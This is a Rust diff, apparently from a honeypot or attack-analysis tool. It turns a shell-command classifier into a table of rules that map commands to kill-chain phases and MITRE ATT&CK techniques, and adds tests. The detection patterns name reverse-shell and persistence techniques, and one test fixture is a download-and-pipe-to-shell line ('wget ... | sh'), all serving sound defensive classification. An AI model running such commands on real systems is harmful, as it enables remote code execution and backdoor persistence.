@@ -483,63 +483,168 @@ pub fn campaign_similarity(a: &CampaignView, b: &CampaignView) -> f64 {
         + 0.6 * keystroke_weight(a.kd_simhash, b.kd_simhash)
 }
 
+/// What a command does, as a kill-chain phase and the MITRE ATT&CK
+/// (Enterprise) technique it is an instance of. The rules are ordered: the
+/// first that matches gives the command's phase (the most telling phase
+/// wins); every rule that matches gives a technique.
+pub struct CommandRule {
+    pub phase: &'static str,
+    pub technique: &'static str,
+    pub technique_name: &'static str,
+    matches: fn(&str) -> bool,
+}
+
+fn has(c: &str, needles: &[&str]) -> bool {
+    needles.iter().any(|n| c.contains(n))
+}
+
+/// The command rules, on the lower-cased command.
+pub const COMMAND_RULES: &[CommandRule] = &[
+    CommandRule {
+        phase: "persistence",
+        technique: "T1053.003",
+        technique_name: "Scheduled Task/Job: Cron",
+        matches: |c| has(c, &["crontab"]),
+    },
+    CommandRule {
+        phase: "persistence",
+        technique: "T1098.004",
+        technique_name: "Account Manipulation: SSH Authorized Keys",
+        matches: |c| has(c, &["authorized_keys"]),
+    },
+    CommandRule {
+        phase: "persistence",
+        technique: "T1543.002",
+        technique_name: "Create or Modify System Process: Systemd Service",
+        matches: |c| has(c, &["systemctl enable"]),
+    },
+    CommandRule {
+        phase: "persistence",
+        technique: "T1037.004",
+        technique_name: "Boot or Logon Initialization Scripts: RC Scripts",
+        matches: |c| has(c, &["rc.local", "/etc/init.d/"]),
+    },
+    CommandRule {
+        phase: "persistence",
+        technique: "T1136.001",
+        technique_name: "Create Account: Local Account",
+        matches: |c| has(c, &["useradd", "adduser"]),
+    },
+    CommandRule {
+        phase: "persistence",
+        technique: "T1546.004",
+        technique_name: "Event Triggered Execution: Unix Shell Configuration Modification",
+        matches: |c| has(c, &[".bashrc"]),
+    },
+    CommandRule {
+        phase: "persistence",
+        technique: "T1222.002",
+        technique_name: "File and Directory Permissions Modification: Linux and Mac",
+        matches: |c| has(c, &["chattr +i"]),
+    },
+    CommandRule {
+        phase: "command_and_control",
+        technique: "T1059.004",
+        technique_name: "Command and Scripting Interpreter: Unix Shell",
+        matches: |c| {
+            has(
+                c,
+                &[
+                    "/dev/tcp/",
+                    "nc -e",
+                    "ncat ",
+                    "bash -i",
+                    "| sh",
+                    "|sh",
+                    "| bash",
+                    "|bash",
+                    "socat ",
+                ],
+            )
+        },
+    },
+    CommandRule {
+        phase: "command_and_control",
+        technique: "T1105",
+        technique_name: "Ingress Tool Transfer",
+        matches: |c| {
+            has(c, &["wget ", "curl ", "tftp "])
+                && has(c, &["http://", "https://", "chmod +x", "./"])
+        },
+    },
+    CommandRule {
+        phase: "lateral_movement",
+        technique: "T1021.004",
+        technique_name: "Remote Services: SSH",
+        matches: |c| has(c, &["ssh ", "scp ", "sshpass", "rsync "]) && c.contains('@'),
+    },
+    CommandRule {
+        phase: "discovery",
+        technique: "T1082",
+        technique_name: "System Information Discovery",
+        matches: |c| {
+            has(
+                c,
+                &[
+                    "uname",
+                    "hostname",
+                    "/proc/cpuinfo",
+                    "lscpu",
+                    "nproc",
+                    "uptime",
+                    "free -",
+                    "df -",
+                    "cat /etc/os-release",
+                ],
+            )
+        },
+    },
+    CommandRule {
+        phase: "discovery",
+        technique: "T1033",
+        technique_name: "System Owner/User Discovery",
+        matches: |c| has(c, &["whoami"]) || c.trim() == "id" || c.trim() == "w",
+    },
+    CommandRule {
+        phase: "discovery",
+        technique: "T1087.001",
+        technique_name: "Account Discovery: Local Account",
+        matches: |c| has(c, &["/etc/passwd"]),
+    },
+    CommandRule {
+        phase: "discovery",
+        technique: "T1016",
+        technique_name: "System Network Configuration Discovery",
+        matches: |c| has(c, &["ifconfig", "ip a", "netstat"]),
+    },
+    CommandRule {
+        phase: "discovery",
+        technique: "T1057",
+        technique_name: "Process Discovery",
+        matches: |c| has(c, &["ps aux"]),
+    },
+    CommandRule {
+        phase: "discovery",
+        technique: "T1083",
+        technique_name: "File and Directory Discovery",
+        matches: |c| c.starts_with("ls"),
+    },
+];
+
 /// Kill-chain phase of a command, by what the command does; `None` when it
-/// says nothing. Rules are ordered: the most telling phase wins.
+/// says nothing (the first of [`COMMAND_RULES`] that matches).
 pub fn command_phase(command: &str) -> Option<&'static str> {
     let c = command.to_ascii_lowercase();
-    let has = |needles: &[&str]| needles.iter().any(|n| c.contains(n));
-    if has(&[
-        "crontab",
-        "authorized_keys",
-        "systemctl enable",
-        "rc.local",
-        "useradd",
-        "adduser",
-        ".bashrc",
-        "chattr +i",
-        "/etc/init.d/",
-    ]) {
-        Some("persistence")
-    } else if has(&[
-        "/dev/tcp/",
-        "nc -e",
-        "ncat ",
-        "bash -i",
-        "| sh",
-        "|sh",
-        "| bash",
-        "|bash",
-        "socat ",
-    ]) || (has(&["wget ", "curl ", "tftp "])
-        && has(&["http://", "https://", "chmod +x", "./"]))
-    {
-        Some("command_and_control")
-    } else if has(&["ssh ", "scp ", "sshpass", "rsync "]) && c.contains('@') {
-        Some("lateral_movement")
-    } else if has(&[
-        "uname",
-        "whoami",
-        "hostname",
-        "/proc/cpuinfo",
-        "/etc/passwd",
-        "ifconfig",
-        "ip a",
-        "netstat",
-        "ps aux",
-        "lscpu",
-        "nproc",
-        "uptime",
-        "free -",
-        "df -",
-        "cat /etc/os-release",
-    ]) || c.trim() == "id"
-        || c.trim() == "w"
-        || c.starts_with("ls")
-    {
-        Some("discovery")
-    } else {
-        None
-    }
+    COMMAND_RULES
+        .iter()
+        .find(|r| (r.matches)(&c))
+        .map(|r| r.phase)
+}
+
+/// Every ATT&CK technique a command is an instance of (all matching rules).
+pub fn command_techniques(command: &str) -> Vec<&'static CommandRule> {
+    let c = command.to_ascii_lowercase();
+    COMMAND_RULES.iter().filter(|r| (r.matches)(&c)).collect()
 }
 
 /// The servers a command reaches out to, as `host:port`: URLs (http, https,
@@ -1308,6 +1413,21 @@ mod tests {
         );
         assert_eq!(command_phase("ssh root@10.0.0.7"), Some("lateral_movement"));
         assert_eq!(command_phase("echo hello"), None);
+    }
+
+    #[test]
+    fn commands_name_their_techniques() {
+        let ids =
+            |c: &str| -> Vec<&str> { command_techniques(c).iter().map(|r| r.technique).collect() };
+        assert_eq!(ids("uname -a; whoami"), ["T1082", "T1033"]);
+        assert_eq!(ids("wget http://x/y.sh -O- | sh"), ["T1059.004", "T1105"]);
+        assert_eq!(ids("echo key >> ~/.ssh/authorized_keys"), ["T1098.004"]);
+        assert!(ids("echo hello").is_empty());
+        // the phase is the first matching rule's
+        assert_eq!(command_phase("uname -a; crontab -l"), Some("persistence"));
+        for r in COMMAND_RULES {
+            assert!(r.technique.starts_with('T') && !r.technique_name.is_empty());
+        }
     }
 
     #[test]
